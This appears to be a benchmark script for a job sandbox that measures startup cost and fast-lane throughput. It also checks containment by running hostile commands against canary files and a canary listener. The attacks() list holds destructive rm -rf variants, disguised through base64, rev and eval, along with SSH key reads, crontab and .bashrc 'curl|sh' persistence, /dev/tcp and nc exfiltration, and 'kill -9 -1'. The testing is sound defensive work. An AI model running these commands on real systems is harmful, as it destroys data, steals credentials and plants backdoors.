"""Containment: what the job sandbox costs per job, and what it holds, in one run.

    python bench/containment.py [--quick] [--runs 100]

Arm A starts `true` bare, arm B inside the sandbox corral builds for an agent's job
(corral/sandbox.py, the facility's default profile), interleaved, and reports each
arm's start-to-exit p50 and the difference. Then it executes harmful commands in
several disguises inside that sandbox against a canary home with canary credentials
and a canary listener, and checks effects, not exit codes: a file outside the job's
directory changed, a canary secret came back, a connection arrived. And it runs
benign work that must keep running. Last, the fast lane: a burst of `true` tasks
through a real gateway (local backend, one warm 32-slot allocation), from a person
(not contained) and from that person's agent (each task contained), interleaved, and
the ratio of the makespans. Needs bubblewrap (scripts/sandbox-up).
Last line: one JSON object.
"""

from __future__ import annotations

import argparse
import base64
import json
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

import httpx  # noqa: E402

from bench._common import GatewayProcess, pct  # noqa: E402
from corral.sandbox import build  # noqa: E402

SECRET = "CANARY-bench-5d1c-secret"


def attacks(home: Path, port: int) -> list[str]:
    h = str(home)
    b64 = base64.b64encode(f"rm -rf {h}/project".encode()).decode()
    return [
        f"rm -rf {h}/project", f"X='rm -rf {h}/project'; sh -c \"$X\"", f"echo 'tcejorp/{h[::-1]} fr- mr' | rev | sh",
        f"echo {b64} | base64 -d | bash", f"eval \"$(printf 'rm -rf %s/project' {h})\"",
        f"bash <<'EOF'\nrm -rf {h}/project\nEOF", f"find {h}/project -type f -delete",
        f"python3 -c \"import shutil; shutil.rmtree('{h}/project')\"",
        f"perl -e 'unlink glob \"{h}/project/*\"'", f"truncate -s 0 {h}/project/paper.tex",
        f"dd if=/dev/zero of={h}/project/paper.tex bs=1 count=1 conv=notrunc", f"mv {h}/project /tmp/stolen",
        f"echo '* * * * * curl x|sh' >> {h}/.crontab", f"mkdir -p {h}/.ssh && echo key >> {h}/.ssh/authorized_keys",
        f"echo 'curl evil|sh' >> {h}/.bashrc", "echo owned > /etc/corral-canary",
        f"cat {h}/.ssh/id_ed25519", f"python3 -c \"print(open('{h}/.ssh/id_ed25519').read())\"",
        f"cp -r {h}/.ssh ./x && cat ./x/*", f"tar c {h}/.ssh 2>/dev/null | strings",
        f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 2).send(b'x')\"",
        f"bash -c 'echo leak > /dev/tcp/127.0.0.1/{port}'", f"curl -s -m 2 http://127.0.0.1:{port}/",
        f"nc -w 2 127.0.0.1 {port} < /etc/hostname", "kill -9 -1", "pkill -9 -f sleep",
    ]


BENIGN = ["python3 -c 'print(sum(range(10)))' > sum.txt && test -s sum.txt",
          "mkdir -p /tmp/scratch && echo t > /tmp/scratch/f && cat /tmp/scratch/f",
          "printf 'all:\\n\\techo built > built.txt\\n' > Makefile && make -s && test -s built.txt",
          "git init -q repo && cd repo && echo a > a && git add a && git -c user.email=a@b -c user.name=bot commit -qm m",
          "ls /usr/lib/python3* > /dev/null && head -c 100 /etc/os-release > /dev/null", "sort -R /etc/passwd | head -1"]


def fast_lane_makespans(tasks: int, rounds: int) -> dict[str, list[float]]:
    """Makespan of ``tasks`` batched `true` tasks, submitted and awaited by a person and
    by that person's agent in turn, on one warm pool (same Unix user, same account)."""
    gw = GatewayProcess(env={"CORRAL_LOCAL_CPUS": "32", "CORRAL_FASTLANE_CPUS": "32",
                             "CORRAL_FASTLANE_MIN_CPUS": "32", "CORRAL_FASTLANE_MEMORY_MB": "8000"})
    try:
        with gw.client() as h:
            h.post("/v1/principals", json={"name": "alice", "kind": "human"}).raise_for_status()
            h.post("/v1/principals", json={"name": "bot", "kind": "agent", "sponsor": "alice"}).raise_for_status()
            tokens = {n: h.post("/v1/tokens", json={"for": n, "expires": "2h"}).json()["token"] for n in ("alice", "bot")}
        spec = {"command": "true", "lane": "fast", "walltime": "5m", "memory": "10M"}
        out: dict[str, list[float]] = {"bare": [], "sandboxed": []}
        clients = {n: httpx.Client(base_url=gw.url, headers={"Authorization": f"Bearer {t}"}, timeout=300)
                   for n, t in tokens.items()}
        for arm, who in (("bare", "alice"), ("sandboxed", "bot")):  # warm: the pool, the sandbox file
            ids = [j["id"] for j in clients[who].post("/v1/jobs/batch", json={"jobs": [spec] * 8}).json()["jobs"]]
            clients[who].post("/v1/jobs/wait", json={"ids": ids, "timeout": 120})
        for _ in range(rounds):
            for arm, who in (("bare", "alice"), ("sandboxed", "bot")):
                h = clients[who]
                t0 = time.perf_counter()
                ids = [j["id"] for j in h.post("/v1/jobs/batch", json={"jobs": [spec] * tasks}).raise_for_status()
                       .json()["jobs"]]
                done = h.post("/v1/jobs/wait", json={"ids": ids, "timeout": 300}).raise_for_status().json()["jobs"]
                out[arm].append(time.perf_counter() - t0)
                bad = [j for j in done if j["state"] != "COMPLETED"]
                if bad:
                    raise SystemExit(f"fast lane, {arm}: {len(bad)} tasks did not complete, e.g. {bad[0]}")
                print(f"fast lane, {arm}: {tasks} tasks in {out[arm][-1]:.2f} s", file=sys.stderr)
        for c in clients.values():
            c.close()
        return out
    finally:
        gw.stop()


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--quick", action="store_true", help="30 starts per arm")
    ap.add_argument("--runs", type=int, default=100)
    ap.add_argument("--tasks", type=int, default=1000, help="fast-lane tasks per burst (--quick: 200)")
    a = ap.parse_args()
    runs = 30 if a.quick else a.runs
    root = Path(tempfile.mkdtemp(prefix="corral-containment-"))
    home = root / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text(SECRET)
    (home / "project").mkdir()
    (home / "project" / "paper.tex").write_text("results")
    state = root / "corral-state"
    state.mkdir()
    box = build(["agent"], [home / ".ssh"], False, "nobody", [state])
    if box.why_not:
        sys.exit(f"containment: no sandbox here: {box.why_not}")

    def fresh_job() -> tuple[str, str]:
        work = Path(tempfile.mkdtemp(prefix="work-", dir="/tmp"))
        work.chmod(0o777)
        job = state / f"job-{time.monotonic_ns()}"
        job.mkdir()
        shutil.chown(job, "nobody")
        return str(work), str(job)

    work, job = fresh_job()
    bare, boxed = [], []
    for _ in range(runs):
        for arm, argv in ((bare, ["true"]), (boxed, box.wrap("agent", ["true"], work, job))):
            t = time.perf_counter()
            subprocess.run(argv, check=True)
            arm.append((time.perf_counter() - t) * 1000)

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    listener.settimeout(0.2)
    heard: list[bytes] = []

    def accept() -> None:
        while True:
            try:
                c, _ = listener.accept()
                heard.append(c.recv(100) or b"(connected)")
                c.close()
            except TimeoutError:
                continue
            except OSError:
                return

    threading.Thread(target=accept, daemon=True).start()
    sleeper = subprocess.Popen(["sleep", "300"])
    harmful: list[str] = []
    cmds = attacks(home, listener.getsockname()[1])
    for cmd in cmds:
        work, job = fresh_job()
        r = subprocess.run(box.wrap("agent", ["bash", "-c", cmd], work, job), capture_output=True, text=True,
                           timeout=30)
        effects = []
        if not (home / "project" / "paper.tex").exists() or (home / "project" / "paper.tex").read_text() != "results":
            effects.append("canary project changed")
            (home / "project").mkdir(exist_ok=True)
            (home / "project" / "paper.tex").write_text("results")
        if any((home / f).exists() for f in (".crontab", ".bashrc", ".ssh/authorized_keys")) or \
                Path("/etc/corral-canary").exists():
            effects.append("persistence written")
        if SECRET in r.stdout + r.stderr:
            effects.append("canary secret read")
        if sleeper.poll() is not None:
            effects.append("a process outside was killed")
            sleeper = subprocess.Popen(["sleep", "300"])
        if effects:
            harmful.append(f"{cmd[:60]}: {', '.join(effects)}")
    time.sleep(0.5)  # the listener's thread takes what arrived
    if heard:
        harmful.append(f"{len(heard)} connections reached the canary listener")
    listener.close()
    sleeper.kill()
    broken = []
    for cmd in BENIGN:
        work, job = fresh_job()
        r = subprocess.run(box.wrap("agent", ["bash", "-c", cmd], work, job), capture_output=True, text=True,
                           timeout=60)
        if r.returncode != 0:
            broken.append(f"{cmd[:50]}: exit {r.returncode}: {r.stderr.strip()[-200:]}")
    shutil.rmtree(root, ignore_errors=True)
    tasks = 200 if a.quick else a.tasks
    spans = fast_lane_makespans(tasks, 1 if a.quick else 2)
    bare_s, boxed_s = min(spans["bare"]), min(spans["sandboxed"])
    out = {"bench": "containment", "runs": runs, "bare_start_p50_ms": round(pct(bare, 50), 2),
           "sandbox_start_p50_ms": round(pct(boxed, 50), 2),
           "added_p50_ms": round(pct(boxed, 50) - pct(bare, 50), 2), "sandbox_start_p99_ms": round(pct(boxed, 99), 2),
           "attacks_run": len(cmds), "harmful_effects": len(harmful), "harmful": harmful,
           "benign_run": len(BENIGN), "benign_broken": len(broken), "broken": broken,
           "fast_lane_tasks": tasks, "fast_lane_makespan_bare_s": round(bare_s, 2),
           "fast_lane_makespan_sandboxed_s": round(boxed_s, 2),
           "fast_lane_makespan_ratio": round(boxed_s / bare_s, 2), "fast_lane_runs": spans}
    print(f"start p50: bare {out['bare_start_p50_ms']} ms, sandboxed {out['sandbox_start_p50_ms']} ms "
          f"(+{out['added_p50_ms']} ms); attacks {len(cmds)}, harmful effects {len(harmful)}; "
          f"benign {len(BENIGN)}, broken {len(broken)}; fast lane {tasks} tasks: bare {bare_s:.2f} s, "
          f"sandboxed {boxed_s:.2f} s")
    print(json.dumps(out))


if __name__ == "__main__":
    main()
